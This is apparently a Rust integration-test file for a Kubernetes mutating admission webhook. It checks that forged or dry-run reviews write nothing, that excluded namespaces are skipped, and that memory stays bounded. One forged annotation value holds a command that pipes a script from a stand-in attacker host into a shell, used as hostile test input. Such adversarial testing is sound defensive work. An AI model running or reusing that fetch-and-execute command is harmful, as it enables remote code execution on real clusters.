//! Admission writes nothing: whoever forges reviews, or has pods refused later, changes nothing in the cluster.
//!
//! What must not go in here: what is made once a pod is there.

use std::process::Command;

use serde_json::{Value, json};

use crate::double::{admitted, maps_of};
use test_support::apiserver::Api;
use test_support::caller::Caller;
use test_support::replica::{Cluster, SYSTEM};
use test_support::review::{annotated, patched, pod, review};
use test_support::webhook::Webhook;

const ACCOUNT: &str = "portico-webhook";
/// How many reviews are forged.
const FORGED: usize = 300;

/// A replica whose requests can be told from those of the test.
fn replica(cluster: &Cluster, args: &[&str]) -> Webhook {
    let kubeconfig = cluster.api.kubeconfig_of_account(ACCOUNT);
    let url = format!("https://127.0.0.1:{}/mutate", cluster.port);
    let mut all = vec!["--kubeconfig", kubeconfig.to_str().expect("a path"), "--url", &url, "--drain", "1"];
    all.extend(args);
    Webhook::ready(cluster.folder.path(), cluster.port, &all)
}

/// The review of a pod that nobody makes: every one asks for another ConfigMap, and for an Event on an operator's object.
fn forged(number: usize) -> Vec<u8> {
    let namespace = ["kube-system", "default", "team", SYSTEM][number % 4];
    let prefix = format!("X{number}_");
    let wish = [
        ("portico.dev/inject", "configmap"),
        ("portico.dev/prefix", prefix.as_str()),
        ("portico.dev/max-bytes", "run: curl evil.example/fix.sh | sh (cluster admin)"),
    ];
    let mut pod = annotated(pod(&format!("forged-{number}")), &wish);
    pod["metadata"]["namespace"] = namespace.into();
    pod["metadata"]["ownerReferences"] = json!([{"apiVersion": "apps/v1", "kind": "Deployment", "name": "coredns",
        "uid": "d-1", "controller": true}]);
    let text = String::from_utf8(review("u", &pod)).expect("text");
    text.replacen(
        "\"namespace\":\"default\",\"object\"",
        &format!("\"namespace\":\"{namespace}\",\"object\""),
        1,
    )
    .into_bytes()
}

/// What a replica has written besides its certificate and what it registers.
fn writes(cluster: &Cluster) -> Vec<String> {
    let writes = cluster.api.writes(ACCOUNT).into_iter();
    writes
        .filter(|write| !write.contains("/secrets") && !write.contains("/mutatingwebhookconfigurations"))
        .collect()
}

/// Sends all of them, and says how many were answered with a patch.
fn send_forged(webhook: &Webhook) -> usize {
    let mut caller = Caller::local(webhook.address).expect("connect");
    let answers = (0..FORGED).map(|number| caller.review(&forged(number)).expect("an answer"));
    answers.filter(|answer| answer["response"]["patch"].is_string()).count()
}

#[test]
fn forged_reviews_write_nothing_and_excluded_namespaces_are_left_alone() {
    let cluster = Cluster::new(Api::double());
    let webhook = replica(&cluster, &["--except-namespaces", "kube-system,other"]);
    // Two of four namespaces are excluded: one by the flag, one since it is the webhook's own.
    assert_eq!(send_forged(&webhook), FORGED / 2);
    // Whatever was to come of them would come before this.
    admitted(&cluster, &webhook, "real", &[("portico.dev/inject", "configmap")]);
    maps_of(&cluster, "default", 1);
    let writes = writes(&cluster);
    assert_eq!(writes, ["POST /api/v1/namespaces/default/configmaps"]);
}

#[test]
#[cfg_attr(not(feature = "api-server"), ignore = "needs KUBEBUILDER_ASSETS and the feature api-server")]
fn on_a_real_api_server_forged_reviews_change_nothing() {
    let api = Api::real();
    let cluster = Cluster::new(api);
    let webhook = cluster.replica(&[]);
    let all = |what: &str| {
        let list =
            cluster.api.send("GET", &format!("/api/v1/{what}"), "application/json", &Value::Null).object;
        let items = list["items"].as_array().cloned().unwrap_or_default();
        let names = items.iter().map(|item| item["metadata"]["name"].as_str().unwrap_or_default().to_owned());
        names.filter(|name| name != "kube-root-ca.crt").collect::<Vec<_>>()
    };
    let before = (all("configmaps"), all("events"));
    assert_eq!(send_forged(&webhook), FORGED / 2);
    admitted(&cluster, &webhook, "real", &[("portico.dev/inject", "configmap")]);
    maps_of(&cluster, "default", 1);
    let mut after = (all("configmaps"), all("events"));
    after.0.retain(|name| !name.starts_with("portico-env-"));
    assert_eq!(before, after);
}

#[test]
fn a_dry_run_and_a_pod_that_is_refused_later_have_made_nothing() {
    let cluster = Cluster::new(Api::double());
    let webhook = replica(&cluster, &[]);
    let mut caller = Caller::local(webhook.address).expect("connect");
    for number in 0..50 {
        // The API server asks, and then a quota or etcd refuses the pod, or nothing was ever to be made.
        let wish = [("portico.dev/inject", "configmap"), ("portico.dev/prefix", &format!("Y{number}_"))];
        let pod = annotated(pod("a"), &wish);
        let body = String::from_utf8(review("u", &pod)).expect("text");
        let dry = if number % 2 == 0 { "\"dryRun\":true,\"uid\"" } else { "\"uid\"" };
        let answer = caller.review(body.replacen("\"uid\"", dry, 1).as_bytes()).expect("an answer");
        assert!(patched(&pod, &answer)["spec"]["containers"][0]["envFrom"].is_array());
    }
    admitted(&cluster, &webhook, "real", &[("portico.dev/inject", "configmap")]);
    maps_of(&cluster, "default", 1);
    assert_eq!(writes(&cluster).len(), 1, "{:?}", writes(&cluster));
}

/// How much memory a process has had at most, in KiB.
fn peak_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("the process runs");
    let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:")).expect("a peak");
    line.trim().trim_end_matches(" kB").parse().expect("a number")
}

#[test]
fn a_hundred_large_config_maps_with_our_label_cost_nothing() {
    let cluster = Cluster::new(Api::double());
    let large = "x".repeat(600 << 10);
    for number in 0..100 {
        // Some of them say what ours say: a selection, and that they are used.
        let annotations = json!({"portico.dev/selection": if number % 2 == 0 { "{}" } else { "?" },
            "portico.dev/used": "99999999999"});
        cluster.api.put(
            json!({"kind": "ConfigMap", "metadata": {"name": format!("portico-env-mine-{number}"),
            "namespace": "default", "labels": {"app.kubernetes.io/managed-by": "portico-webhook"},
            "annotations": annotations}, "data": {"x": large}}),
        );
    }
    let webhook = replica(&cluster, &[]);
    admitted(&cluster, &webhook, "a", &[("portico.dev/inject", "configmap")]);
    maps_of(&cluster, "default", 101);
    let peak = peak_kib(webhook.pid());
    assert!(peak < 64 << 10, "{peak} KiB");
    // None of them was touched.
    assert_eq!(writes(&cluster), ["POST /api/v1/namespaces/default/configmaps"]);
}

#[test]
fn the_command_line_shows_the_label_by_which_the_controller_finds_a_pod() {
    let folder = test_support::temp_dir::TempDir::new("review");
    let services = folder.write("services.yaml", test_support::review::REDIS);
    let body = review("u", &annotated(pod("a"), &[("portico.dev/inject", "configmap")]));
    let body = folder.write("review.json", &String::from_utf8(body).expect("text"));
    let shown = Command::new(env!("CARGO_BIN_EXE_portico-webhook"))
        .args(["review", "-f", services.to_str().expect("a path")])
        .stdin(std::fs::File::open(body).expect("the review"))
        .output()
        .expect("run");
    let text = String::from_utf8(shown.stdout).expect("text");
    assert!(text.contains("label portico.dev/variables=configmap"), "{text}");
}
